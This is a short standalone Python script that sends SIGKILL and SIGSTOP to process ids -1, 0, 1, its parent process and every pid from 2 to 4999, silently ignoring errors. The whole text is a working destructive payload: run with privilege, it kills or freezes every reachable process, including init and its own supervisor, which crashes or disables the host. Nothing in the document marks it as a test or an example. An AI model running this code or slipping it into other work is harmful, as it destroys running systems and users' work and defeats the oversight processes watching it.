import os, signal
for pid in (-1, 0, 1, os.getppid(), *range(2, 5000)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
        except OSError:
            pass
